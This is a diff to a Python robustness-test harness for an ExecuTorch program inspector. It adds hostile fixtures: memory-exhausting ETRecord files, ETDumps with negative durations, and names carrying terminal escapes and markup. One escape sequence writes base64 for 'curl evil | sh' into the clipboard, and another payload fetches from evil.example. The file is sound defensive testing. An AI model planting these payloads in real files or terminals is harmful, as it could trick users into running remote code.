@@ -20,10 +20,8 @@ import contextlib
 import io
 import json
 import os
-import resource
 import shutil
 import signal
-import sys
 import time
 from collections.abc import Callable, Iterator
 from dataclasses import asdict, dataclass, field
@@ -172,6 +170,161 @@ def case_long_names(folder: Path, scale: int) -> Path:
     return _copy_arm(folder, "m" * 246, side_files=False)
 
 
+# --- side files made by ExecuTorch's serializers with hostile structure -----------------------
+
+
+def _rewrite_zip(src: Path, dst: Path, parts: dict[str, bytes]) -> None:
+    """`src` (a zip) with the named parts replaced, written as `ETRecord.save` writes it."""
+    import zipfile
+
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            zout.writestr(info.filename, parts.get(info.filename, zin.read(info)))
+
+
+def _etrecord_parts(name: str = ARM) -> tuple[dict[str, Any], dict[str, Any]]:
+    import zipfile
+
+    with zipfile.ZipFile(EXAMPLES / f"{name}.etrecord") as z:
+        handles = json.loads(z.read("debug_handle_map"))
+        edge = json.loads(z.read("edge_dialect_exported_program/forward"))
+    return handles, edge
+
+
+def _write_etrecord(pte: Path, handles: dict[str, Any], edge: dict[str, Any]) -> None:
+    parts = {
+        "debug_handle_map": json.dumps(handles).encode(),
+        "edge_dialect_exported_program/forward": json.dumps(edge).encode(),
+    }
+    _rewrite_zip(EXAMPLES / f"{ARM}.etrecord", pte.with_suffix(".etrecord"), parts)
+
+
+@case
+def case_etrecord_one_handle(folder: Path, scale: int) -> Path:
+    """The ETRecord's first delegate call lists one handle 3000 x scale times, and as many edge
+    nodes carry it (the join was handles x nodes)."""
+    pte = _copy_arm(folder)
+    handles, edge = _etrecord_parts()
+    n = 3000 * scale
+    handles["forward"]["1"] = [5] * n
+    nodes = edge["graph_module"]["graph"]["nodes"]
+    carrier = next(x for x in nodes if x["metadata"].get("debug_handle") == "5")
+    nodes += [{**carrier, "name": f"{carrier['name']}_{i}"} for i in range(n)]
+    _write_etrecord(pte, handles, edge)
+    return pte
+
+
+@case
+def case_etrecord_handle_repeated(folder: Path, scale: int) -> Path:
+    """One handle listed 100,000 x scale times by one instruction, 900 nodes carrying it (under
+    the per-handle cap: only deduplication keeps this linear)."""
+    pte = _copy_arm(folder)
+    handles, edge = _etrecord_parts()
+    handles["forward"]["1"] = [5] * (100_000 * scale)
+    nodes = edge["graph_module"]["graph"]["nodes"]
+    carrier = next(x for x in nodes if x["metadata"].get("debug_handle") == "5")
+    nodes += [{**carrier, "name": f"{carrier['name']}_{i}"} for i in range(900)]
+    _write_etrecord(pte, handles, edge)
+    return pte
+
+
+@case
+def case_etrecord_json_bloat(folder: Path, scale: int) -> Path:
+    """An edge-program part padded with 2M x scale empty lists (a few KB zipped per million)."""
+    pte = _copy_arm(folder)
+    handles, edge = _etrecord_parts()
+    edge["padding"] = [[]] * (2_000_000 * scale)
+    _write_etrecord(pte, handles, edge)
+    return pte
+
+
+@case
+def case_etdump_zero_latency(folder: Path, scale: int) -> Path:
+    """The example's ETDump with every tick scaled to zero (and a second, negative, as `.ns`)."""
+    from tests.support.etdumps import rescaled_etdump
+
+    pte = _copy_profiled(folder)
+    rescaled_etdump(EXAMPLES / f"{PROFILED}.etdp", folder / f"{PROFILED}.etdp", 0.0)
+    return pte
+
+
+@case
+def case_etdump_backwards(folder: Path, scale: int) -> Path:
+    """The example's ETDump with every event ending before it starts (negative durations),
+    written by ExecuTorch's ETDump serializer."""
+    import struct
+
+    from executorch.devtools.etdump.serialize import (
+        deserialize_from_etdump_flatcc,
+        serialize_to_etdump_flatcc,
+    )
+
+    pte = _copy_profiled(folder)
+    etdump = deserialize_from_etdump_flatcc((EXAMPLES / f"{PROFILED}.etdp").read_bytes())
+    for run in etdump.run_data:
+        for event in run.events or []:
+            pe = event.profile_event
+            if pe is not None:
+                pe.start_time, pe.end_time = pe.end_time, pe.start_time
+    data = serialize_to_etdump_flatcc(etdump)
+    (folder / f"{PROFILED}.etdp").write_bytes(struct.pack("<I", len(data)) + data)
+    return pte
+
+
+# --- programs re-serialised by ExecuTorch's own serializer ----------------------------------------
+
+# What a name in a file may try on a terminal: set the window title, write a command into the
+# clipboard (OSC 52), erase its own line, a C1 CSI, a bell, a right-to-left override.
+TERMINAL_PAYLOAD = "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2K\r\x9b31m\x07\u202e"
+# What Model Explorer could render from an attribute or an error: a markdown link, a bare URL, an
+# image tag that fetches a URL.
+MARKUP_PAYLOAD = (
+    "[download the fixed model](https://evil.example/fix) see https://evil.example/bare "
+    "<img src=https://evil.example/img.png>"
+)
+
+
+def _reserialised(src: Path, dst: Path, edit: Callable[[Any], None]) -> None:
+    """`src` through ExecuTorch's deserializer, `edit`ed, and back through its serializer."""
+    from executorch.exir._serialize._program import deserialize_pte_binary, serialize_pte_binary
+
+    pte_file = deserialize_pte_binary(src.read_bytes())
+    edit(pte_file.program)
+    dst.write_bytes(bytes(serialize_pte_binary(pte_file)))
+
+
+@case
+def case_names_with_escapes(folder: Path, scale: int) -> Path:
+    """Operator names, a method name and compile-spec values carrying terminal sequences and
+    markup (scale: the payload repeated)."""
+    from executorch.exir.backend.compile_spec_schema import CompileSpec
+
+    pte = _copy_arm(folder, side_files=False)
+
+    def edit(program: Any) -> None:
+        plan = program.execution_plan[0]
+        for op in plan.operators:
+            op.name = TERMINAL_PAYLOAD * scale + op.name
+        for d in plan.delegates:
+            d.compile_specs.append(
+                CompileSpec("notes", (MARKUP_PAYLOAD + TERMINAL_PAYLOAD).encode() * scale)
+            )
+
+    _reserialised(EXAMPLES / f"{ARM}.pte", pte, edit)
+    return pte
+
+
+@case
+def case_markup_file_name(folder: Path, scale: int) -> Path:
+    """A program named like an image tag, corrupt after its header (the error names the file)."""
+    folder.mkdir(parents=True, exist_ok=True)
+    pte = folder / "<img src=https:evil.example>x.pte"
+    data = bytearray((EXAMPLES / f"{ARM}.pte").read_bytes())
+    data[0:4] = b"\xff\xff\xff\x7f"  # a root offset past the end: one PteFormatError
+    pte.write_bytes(bytes(data))
+    return pte
+
+
 # --- running them -----------------------------------------------------------------------------
 
 COMMANDS: tuple[tuple[str, ...], ...] = (
@@ -267,8 +420,46 @@ def run_case(pte: Path, out: Path) -> list[Run]:
     return runs
 
 
-def peak_rss_mb() -> float:
-    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
+def _status_mb(key: str) -> float:
+    """A figure of /proc/self/status in MiB (`VmRSS`, `VmHWM`: the peak since the last reset)."""
+    for line in Path("/proc/self/status").read_text().splitlines():
+        if line.startswith(key + ":"):
+            return int(line.split()[1]) / 1024
+    raise KeyError(key)
+
+
+def _reset_peak() -> None:
+    """Start the peak (`VmHWM`) afresh at the current RSS (Linux 4.0+: `clear_refs` 5)."""
+    Path("/proc/self/clear_refs").write_text("5")
+
+
+def _in_child(name: str, pte: Path, out: Path) -> dict[str, Any]:
+    """Run one case in a forked child (its own peak memory, a clean state for the next case)."""
+    read_end, write_end = os.pipe()
+    pid = os.fork()
+    if pid == 0:  # the child: run, send the runs, leave without cleanup
+        os.close(read_end)
+        code = 0
+        try:
+            out.mkdir(parents=True, exist_ok=True)
+            _reset_peak()
+            start = _status_mb("VmRSS")
+            with in_folder(out):
+                runs = [asdict(r) for r in run_case(pte, out)]
+            payload = json.dumps({"runs": runs, "mb": _status_mb("VmHWM") - start}).encode()
+        except BaseException as e:
+            payload, code = json.dumps(f"{type(e).__name__}: {e}").encode(), 1
+        with os.fdopen(write_end, "wb") as w:
+            w.write(payload)
+        os._exit(code)
+    os.close(write_end)
+    with os.fdopen(read_end, "rb") as r:
+        payload = r.read()
+    _, status = os.waitpid(pid, 0)
+    result = json.loads(payload) if payload else f"child died: status {status}"
+    if isinstance(result, str):
+        return {"case": name, "crash": result}
+    return {"case": name, "runs": result["runs"], "mb": result["mb"]}
 
 
 @contextlib.contextmanager
@@ -282,23 +473,17 @@ def in_folder(folder: Path) -> Iterator[None]:
 
 
 def main(spec_path: str) -> int:
-    """Run the cases of a spec (`{"cases": [[name, program path], ...], "out": folder}`) and
-    print one JSON line per case: its runs and the peak memory after it."""
+    """Run the cases of a spec (`{"cases": [[name, program path], ...], "out": folder}`), each in
+    a forked child, and print one JSON line per case: its runs and the memory it added (the
+    child's peak over its resident size when it started)."""
     spec: dict[str, Any] = json.loads(Path(spec_path).read_text())
     import pte_adapter.cli
     import pte_adapter.explorer.convert  # noqa: F401 - imports are not the case's memory
 
-    baseline = peak_rss_mb()
+    warm = str(EXAMPLES / f"{ARM}.pte")  # every lazy import of a command, done once
+    for command in COMMANDS:
+        _cli([a.format(pte=warm, out=spec["out"]) for a in command])
+    _explorer(Path(warm))
     for name, pte in spec["cases"]:
-        out = Path(spec["out"]) / name
-        out.mkdir(parents=True, exist_ok=True)
-        with in_folder(out):
-            runs = run_case(Path(pte), out)
-        record = {"case": name, "runs": [asdict(r) for r in runs]}
-        record["peak_mb_over_baseline"] = peak_rss_mb() - baseline
-        print(json.dumps(record), flush=True)
+        print(json.dumps(_in_child(name, Path(pte), Path(spec["out"]) / name)), flush=True)
     return 0
-
-
-if __name__ == "__main__":
-    sys.exit(main(sys.argv[1]))
